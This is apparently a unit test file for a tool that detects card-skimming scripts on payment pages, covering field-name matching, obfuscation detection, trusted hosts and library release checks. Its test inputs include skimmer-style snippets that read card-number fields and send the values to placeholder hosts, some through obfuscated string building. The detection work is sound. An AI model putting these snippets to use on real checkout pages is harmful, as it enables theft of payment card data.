// Unit: what code nobody here wrote needs: whole-word field names, reference URLs, folded constants, run-time string
// building, release claims, version-less URLs, release pairing in the planner, and the verified-release cap.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { codeTraits } from '../../src/detect/analyzers/code-traits.js';
import { isReferenceUrl, namesCardField, selectsPaymentField } from '../../src/detect/analyzers/field-words.js';
import { rateChange } from '../../src/detect/analyzers/rate.js';
import { skimmerTraits } from '../../src/detect/analyzers/skimmer-traits.js';
import { libraryChange } from '../../src/detect/analyzers/library-change.js';
import { emptyBaseline, type BaselineSnapshot } from '../../src/plan/baseline.js';
import { planScan } from '../../src/plan/plan-scan.js';
import { sameScriptOtherVersion } from '../../src/plan/identity.js';
import { releaseClaims } from '../../src/detect/intel/release-claims.js';
import type { ScanPlan } from '../../src/plan/plan.js';
import { pageCapture, script } from '../fixtures/captures.js';

const knownBad = { hosts: new Set<string>(), sources: [] };
const change = (newCode: string, oldCode: string | null = null, extra = {}) => ({
  oldCode, newCode, url: 'https://cdn.example/widget.js', pageHost: 'shop.example', knownHosts: [], paymentPage: true,
  oldLibrary: null, newLibrary: null, knownBad, ...extra,
});

describe('card and credential words', () => {
  it('match whole identifiers and field names, not substrings', () => {
    for (const yes of ['cardNumber', 'card_number', '#card-number', 'cc-csc', 'cvv2', 'input[name="card[expiry]"]', 'security code', 'ccnum']) assert.ok(namesCardField(yes), yes);
    for (const no of ['discard', 'expires', 'cards', 'scorecard', 'Expired session', 'accordion', 'cardinal']) assert.ok(!namesCardField(no), no);
    assert.ok(selectsPaymentField('#payment-form') && selectsPaymentField('input[type=password]'));
    assert.ok(!selectsPaymentField('.payments-list') && !selectsPaymentField('#discard-button'));
  });
  it('mark a form field as a card field by whole words, stricter for page classification', async () => {
    const { namesCardInput } = await import('../../src/detect/analyzers/field-words.js');
    for (const yes of ['card_number', 'cardNumber', 'card_exp', 'card_cvv', 'cc-csc', 'expiry', 'cvc']) assert.ok(namesCardInput(yes), yes);
    for (const no of ['cc', 'card', 'session_expires', 'discard', 'pan_tax_id', 'giftcards']) assert.ok(!namesCardInput(no), no);
  });
  it("count where code looks a field up, not in an SDK's list of fields it scrubs", () => {
    const scrub = codeTraits(`var scrubFields = ['cc-number', 'card number', 'cardnumber', 'cvv', 'cvc2', 'expiration date', 'password']; function scrub(o) { return o; }`);
    assert.deepEqual([...scrub.cardReads], []);
    const reads = codeTraits(`var v = document.forms[0].cardnumber.value; var w = f.elements['cc-csc']; if (el.name === 'card_number') x(); document.querySelector('#card-number');`);
    assert.equal(reads.cardReads.size, 5, [...reads.cardReads].join(', '));
  });
});

describe('reference URLs', () => {
  it('are namespaces, documentation and licence links, never destinations', () => {
    for (const url of ['http://www.w3.org/2000/svg', 'https://reactjs.org/docs/error-decoder.html?invariant=', 'https://github.com/axios/axios/issues', 'https://vuejs.org/guide/essentials', 'https://opensource.org/licenses/MIT', 'https://lodash.com/license']) assert.ok(isReferenceUrl(url), url);
    for (const url of ['https://evil.example/collect', 'https://api.shop.example/v1/cart', 'https://stats.example/p.gif?d=1']) assert.ok(!isReferenceUrl(url), url);
    const traits = codeTraits(`el.setAttribute('xmlns', 'http://www.w3.org/2000/svg'); console.warn('see https://github.com/x/y#readme'); fetch('https://collect.example/c');`);
    assert.deepEqual([...traits.hosts], ['collect.example']);
  });
});

describe('run-time string building', () => {
  it('folds constant expressions, so built hosts and calls are seen', () => {
    const traits = codeTraits(`navigator['send' + 'Beacon'](String.fromCharCode(104,116,116,112,115,58,47,47) + 'c.evil.example/p', d); window[atob('ZmV0Y2g=')]('x');`);
    assert.ok(traits.sends.has('sendBeacon'), [...traits.sends].join());
    assert.ok(traits.hosts.has('c.evil.example'), [...traits.hosts].join());
    assert.ok(traits.sends.has('fetch'));
  });
  it('flags base-36 names, char-code strings, rotated string arrays and table lookups, but not ordinary library idioms', () => {
    const obfuscated = codeTraits(`(function(a,n){while(--n)a.push(a.shift())})(t,3); var s=(1325353).toString(36); var u=String.fromCharCode(104,116,116,112);
      o[k(0x1a)](1); o[k(0x1b)](2); o[k(0x1c)](3); o[k(0x1d)](4); o[k(0x1e)](5);`);
    assert.equal(obfuscated.runtimeStrings.size, 4, [...obfuscated.runtimeStrings].join('\n'));
    const ordinary = codeTraits(`var id = Math.random().toString(36).slice(2); var c = String.fromCharCode(code); var s = String.fromCharCode.apply(null, bytes); obj[key](value);`);
    assert.deepEqual([...ordinary.runtimeStrings], []);
  });
  it('sees calls reached through array literals and the Function constructor reached through one', () => {
    const jsfuck = codeTraits(`[]["flat"]["constructor"]("return this")()`);
    assert.ok(jsfuck.runtimeStrings.has('calls reached through array literals ([…][…](…))'));
    assert.ok(jsfuck.dynamicCode.has('Function (through constructor)'));
  });
  it('rates obfuscated code that touches payment fields at run time at least high', () => {
    const code = `(function(a,n){while(--n)a.push(a.shift())})(t,3); var s=(1325353).toString(36);`;
    const quiet = skimmerTraits.run(change(code, null, { fieldAccess: [] }));
    const touched = skimmerTraits.run(change(code, null, { fieldAccess: ['read input[autocomplete=cc-number]'] }));
    assert.ok(!quiet.some((f) => f.severity === 'high' || f.severity === 'critical'), JSON.stringify(quiet));
    assert.ok(touched.some((f) => f.severity === 'high' && /touches payment fields/.test(f.title)), JSON.stringify(touched));
  });
});

describe('trusted hosts', () => {
  it('rate a card-field read plus a send in changed code high, even to a known host', () => {
    const old = `window.a = 1;`;
    const found = skimmerTraits.run(change(`${old} document.getElementById('card-number').addEventListener('change', function (e) { navigator.sendBeacon('https://www.analytics.example/c', e.target.value); });`, old, { knownHosts: ['www.analytics.example'] }));
    assert.ok(found.some((f) => f.severity === 'high' || f.severity === 'critical'), JSON.stringify(found));
  });
  it("count a vendor's own service as its own, for a new destination", async () => {
    const { ownService } = await import('../../src/detect/analyze-alert.js');
    assert.ok(ownService('https://cdnjs.cloudflare.com/ajax/libs/rollbar.js/2.26.4/rollbar.min.js', 'api.rollbar.com'));
    assert.ok(ownService('https://js.stripe.com/v3/', 'api.stripe.com'));
    assert.ok(!ownService('https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js', 'jquery-cdn-stats.example'));
    assert.ok(!ownService('https://shop.example/js/app.js', 'collect.example'));
  });
  it("treat a package's own service as familiar", () => {
    const found = skimmerTraits.run(change(`fetch('https://api.rollbar.com/api/1/item/', { method: 'POST', body: x });`, null, { url: 'https://cdnjs.cloudflare.com/ajax/libs/rollbar.js/2.26.4/rollbar.min.js' }));
    assert.ok(!found.some((f) => f.kind === 'new-host'), JSON.stringify(found));
  });
});

describe('releases', () => {
  it('are claimed by CDN URL shapes, file names, ?ver= and banners', () => {
    const claims = (url: string | null, body: string | null = null) => releaseClaims(url, body, null).map((c) => `${c.name}@${c.version}`);
    assert.deepEqual(claims('https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js'), ['jquery@3.7.1']);
    assert.ok(claims('https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js').includes('lodash@4.17.21'));
    assert.deepEqual(claims('https://cdn.jsdelivr.net/npm/@popperjs/core@2.11.8/dist/umd/popper.min.js'), ['@popperjs/core@2.11.8']);
    assert.deepEqual(claims('https://shop.example/js/jquery-3.7.1.min.js'), ['jquery@3.7.1']);
    assert.deepEqual(claims('https://shop.example/wp-includes/js/jquery/jquery.min.js?ver=3.7.1'), ['jquery@3.7.1']);
    assert.deepEqual(claims(null, '/*! axios v1.7.2 Copyright (c) 2024 Matt Zabriskie and contributors */'), ['axios@1.7.2']);
  });
  it('at a URL that differs only in a version segment are one script', () => {
    for (const [a, b] of [['https://c.example/ajax/libs/jquery/3.7.0/jquery.min.js', 'https://c.example/ajax/libs/jquery/3.7.1/jquery.min.js'],
      ['https://c.example/npm/vue@3.4.1/dist/vue.js', 'https://c.example/npm/vue@3.4.21/dist/vue.js'], ['https://s.example/js/jquery-3.6.0.min.js', 'https://s.example/js/jquery-3.7.1.min.js'],
      ['https://s.example/js/app.3f9a1c2be4.js', 'https://s.example/js/app.8b2e4d6f10.js']]) assert.ok(sameScriptOtherVersion(a!, b!), `${a} ~ ${b}`);
    assert.ok(!sameScriptOtherVersion('https://s.example/js/a.js', 'https://s.example/js/b.js'));
    assert.ok(!sameScriptOtherVersion('https://a.example/lib/1.0.0/x.js', 'https://b.example/lib/1.0.1/x.js'));
  });
  it('moved to a new versioned URL are planned as one change from the old body, and the old one is not removed', () => {
    const oldLib = script({ kind: 'external', url: 'https://cdn.example/libs/widget/1.2.3/widget.min.js', body: 'window.widget={v:"1.2.3"};' });
    const newLib = script({ kind: 'external', url: 'https://cdn.example/libs/widget/1.2.4/widget.min.js', body: 'window.widget={v:"1.2.4"};' });
    const first = planScan(pageCapture([oldLib]), emptyBaseline(), { removalThreshold: 1 });
    const baseline = approve(first);
    const moved = planScan(pageCapture([newLib]), baseline, { removalThreshold: 1 });
    assert.deepEqual(moved.alerts.map((a) => a.type), ['script.changed'], JSON.stringify(moved.alerts));
    assert.equal(moved.alerts[0]!.oldValue, first.scripts[0]!.sha256);
    assert.equal(moved.alerts[0]!.details.replaces, oldLib.url);
    assert.equal(moved.alerts[0]!.severity, 'low', 'a new URL is not a versioned URL that changed in place');
  });
  it('moved to another CDN at another version are paired by the package their URLs name', () => {
    const oldLib = script({ kind: 'external', url: 'https://cdnjs.example/ajax/libs/jquery/3.7.0/jquery.min.js', body: 'window.jq={v:"3.7.0"};' });
    const newLib = script({ kind: 'external', url: 'https://jsdelivr.example/npm/jquery@3.7.1/dist/jquery.min.js', body: 'window.jq={v:"3.7.1"};' });
    const baseline = approve(planScan(pageCapture([oldLib]), emptyBaseline(), { removalThreshold: 1 }));
    const moved = planScan(pageCapture([newLib], { requests: [] }), { ...baseline, hosts: new Set([...baseline.hosts, 'jsdelivr.example']) }, { removalThreshold: 1 });
    assert.deepEqual(moved.alerts.map((a) => [a.type, a.details.replaces]), [['script.changed', oldLib.url]]);
  });
  it('byte-identical to the published release rate at most low; a known-bad host still counts', () => {
    const findings = [{ analyzer: 't', severity: 'critical' as const, kind: 'exfiltration' as const, title: 'x', detail: '' }];
    assert.equal(rateChange({ base: 'high', findings, libraryUpgrade: false, verifiedRelease: true, immutable: false }), 'low');
    assert.equal(rateChange({ base: 'high', findings: [{ ...findings[0]!, kind: 'known-bad' }], libraryUpgrade: false, verifiedRelease: true, immutable: false }), 'critical');
  });
  it('say so in one line, and flag bytes that are not the release they claim', () => {
    const lib = (version: string) => ({ name: 'jquery', version, via: 'content' as const, vulnerabilities: [] });
    const verified = libraryChange.run({ ...change('x', 'y'), oldLibrary: lib('3.7.0'), newLibrary: lib('3.7.1'), release: { status: 'identical', name: 'jquery', version: '3.7.1', path: 'dist/jquery.min.js' } });
    assert.equal(verified[0]!.title, 'upgrades jquery 3.7.0 → 3.7.1, byte-identical to the published release jquery@3.7.1 (dist/jquery.min.js)');
    const tampered = libraryChange.run({ ...change('x', 'y'), release: { status: 'differs', name: 'jquery', version: '3.7.1', via: 'path' } });
    assert.equal(tampered[0]!.kind, 'release-mismatch');
    assert.equal(tampered[0]!.severity, 'medium');
  });
});

/** The baseline after approving a first scan's plan. */
function approve(plan: ScanPlan): BaselineSnapshot {
  return {
    ...emptyBaseline(), established: true, hosts: new Set(plan.baselineAdds.filter((a) => a.subjectType === 'host').map((a) => a.subjectKey)),
    scripts: plan.scripts.map((s, i) => ({
      id: i + 1, key: s.key, kind: s.kind, url: s.url, frameUrl: s.frameUrl, retired: false, missingStreak: 0, accepted: s.sha256 ? [s.sha256] : [],
      acceptedNormalized: [], lastSha: s.sha256, lastBody: null, mask: { disabled: [], learned: [] }, library: null,
    })),
  };
}
